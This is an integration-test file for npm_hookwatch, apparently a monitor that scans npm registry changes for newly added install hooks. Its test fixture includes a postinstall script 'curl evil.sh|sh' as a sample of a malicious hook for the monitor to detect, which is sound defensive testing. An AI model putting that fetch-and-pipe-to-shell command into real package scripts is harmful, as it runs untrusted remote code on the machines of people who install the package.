"""Integration tests for npm_hookwatch.monitor.

Runs the whole pipeline (feed, queue, worker, dispatcher, stores) against
respx-mocked replication and registry endpoints, bounded by max_runtime.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest
import respx
from structlog.testing import capture_logs

from npm_hookwatch.config import WatchConfig
from npm_hookwatch.errors import InitialCursorError
from npm_hookwatch.models import Alert, AlertAction, ChangeEvent, Cursor, Finding, PendingTask
from npm_hookwatch.monitor import Monitor
from npm_hookwatch.notifications import AlertContext, NotificationSink, RenderedMessage
from npm_hookwatch.store import CursorStore, FindingsStore, PendingStore

PACKUMENT: dict[str, Any] = {
    "name": "left-pad",
    "versions": {
        "1.0.0": {},
        "1.1.0": {"scripts": {"postinstall": "curl evil.sh|sh"}},
    },
}


class RecordingSink(NotificationSink):
    """Authoritative in-memory sink."""

    name = "recording"
    authoritative = True

    def __init__(self) -> None:
        super().__init__(client=None)  # type: ignore[arg-type]
        self.contexts: list[AlertContext] = []

    def render(self, context: AlertContext) -> list[RenderedMessage]:
        self.contexts.append(context)
        return [RenderedMessage(payload={}, alerts=context.alerts)]

    async def send(self, message: RenderedMessage) -> None:
        pass


def _config(tmp_path: Path, **overrides: Any) -> WatchConfig:
    values: dict[str, Any] = {
        "replicate_db_url": "https://replicate.test/",
        "changes_url": "https://replicate.test/_changes",
        "registry_url": "https://registry.test/",
        "data_dir": tmp_path,
        "scan_delay": 0,
        "poll_interval": 0.25,
        "max_runtime": 0.8,
        "shutdown_grace": 1,
    }
    values.update(overrides)
    return WatchConfig(**values)


def _changes(mock: respx.MockRouter, batches: list[dict[str, Any]], seen: list[str]) -> respx.Route:
    """Mock the changes feed: serve ``batches`` in order, then empty batches."""
    remaining = iter(batches)
    last = batches[-1]["last_seq"] if batches else 0

    def respond(request: httpx.Request) -> httpx.Response:
        seen.append(request.url.params["since"])
        return httpx.Response(200, json=next(remaining, {"results": [], "last_seq": last}))

    return mock.route(method="GET", host="replicate.test", path="/_changes").mock(side_effect=respond)


class TestMonitor:
    """End-to-end runs of the pipeline."""

    async def test_feed_to_finding(self, tmp_path: Path) -> None:
        """A feed event becomes a delivered finding; internal ids are ignored."""
        sink = RecordingSink()
        seen: list[str] = []
        with respx.mock() as mock:
            _changes(
                mock,
                [{"results": [{"id": "left-pad"}, {"id": "_design/app"}], "last_seq": 11}],
                seen,
            )
            mock.get("https://replicate.test/").mock(return_value=httpx.Response(200, json={"update_seq": 10}))
            registry = mock.get("https://registry.test/left-pad").mock(
                return_value=httpx.Response(200, json=PACKUMENT)
            )
            await Monitor(_config(tmp_path), sinks=[sink]).run()

        assert seen[:2] == ["10", "11"]
        assert registry.call_count == 1
        assert [context.package_name for context in sink.contexts] == ["left-pad"]
        findings = FindingsStore(tmp_path / "db.json").all()
        assert [(f.package_name, f.version, f.delivered) for f in findings] == [("left-pad", "1.1.0", True)]
        assert CursorStore(tmp_path / "cursor.json").load() == Cursor(11)
        assert PendingStore(tmp_path / "pending-db.json").all() == []

    async def test_resumes_persisted_cursor(self, tmp_path: Path) -> None:
        """A persisted cursor is used instead of the feed's current offset."""
        CursorStore(tmp_path / "cursor.json").save(Cursor("50-abc"))
        seen: list[str] = []
        with respx.mock() as mock:
            _changes(mock, [], seen)
            await Monitor(_config(tmp_path), sinks=[]).run()
        assert seen[0] == "50-abc"

    async def test_from_now_ignores_persisted_cursor(self, tmp_path: Path) -> None:
        """resume_cursor=False starts at update_seq."""
        CursorStore(tmp_path / "cursor.json").save(Cursor(5))
        seen: list[str] = []
        with respx.mock() as mock:
            _changes(mock, [], seen)
            mock.get("https://replicate.test/").mock(return_value=httpx.Response(200, json={"update_seq": 99}))
            await Monitor(_config(tmp_path, resume_cursor=False), sinks=[]).run()
        assert seen[0] == "99"
        assert CursorStore(tmp_path / "cursor.json").load() == Cursor(99)

    async def test_replays_pending(self, tmp_path: Path) -> None:
        """Packages left pending by a previous run are scanned at startup."""
        CursorStore(tmp_path / "cursor.json").save(Cursor(1))
        PendingStore(tmp_path / "pending-db.json").add(PendingTask("left-pad"))
        sink = RecordingSink()
        with respx.mock() as mock:
            _changes(mock, [], [])
            mock.get("https://registry.test/left-pad").mock(return_value=httpx.Response(200, json=PACKUMENT))
            await Monitor(_config(tmp_path), sinks=[sink]).run()
        assert len(sink.contexts) == 1
        assert PendingStore(tmp_path / "pending-db.json").all() == []

    async def test_initial_cursor_failure_is_fatal(self, tmp_path: Path) -> None:
        """Without a cursor and an unreachable feed, run() raises."""
        with respx.mock() as mock:
            mock.get("https://replicate.test/").mock(return_value=httpx.Response(503))
            with pytest.raises(InitialCursorError):
                await Monitor(_config(tmp_path), sinks=[]).run()
        assert not (tmp_path / "cursor.json").exists()

    async def test_handoff_records_pending(self, tmp_path: Path) -> None:
        """handoff persists pending tasks before the scan runs."""
        async with httpx.AsyncClient() as client:
            monitor = Monitor(_config(tmp_path, scan_delay=60), http_client=client, sinks=[])
            await monitor.handoff([ChangeEvent("a", 1), ChangeEvent("b", 1)])
            data = json.loads((tmp_path / "pending-db.json").read_text(encoding="utf-8"))
            assert sorted(record["package_name"] for record in data) == ["a", "b"]
            assert monitor.queue.pending_keys() == {"a", "b"}
            await monitor.queue.close(grace=0)

    async def test_logs_undelivered_findings_at_startup(self, tmp_path: Path) -> None:
        """Findings the tracker never accepted are reported when the monitor starts."""
        findings = FindingsStore(tmp_path / "db.json")
        findings.add(
            Finding.from_alert("left-pad", "1.1.0", "1.0.0", Alert("postinstall", AlertAction.ADDED, "x"))
        )
        findings.add(Finding.from_alert("other", "2.0.0", None, Alert("install", AlertAction.ADDED, "y")))
        findings.mark_delivered("other", "2.0.0", "install")
        CursorStore(tmp_path / "cursor.json").save(Cursor(1))
        with capture_logs() as logs, respx.mock() as mock:
            _changes(mock, [], [])
            await Monitor(_config(tmp_path), sinks=[]).run()
        reported = [entry for entry in logs if entry["event"] == "undelivered_findings"]
        assert len(reported) == 1
        assert reported[0]["count"] == 1
        assert reported[0]["findings"] == ["left-pad@1.1.0:postinstall"]
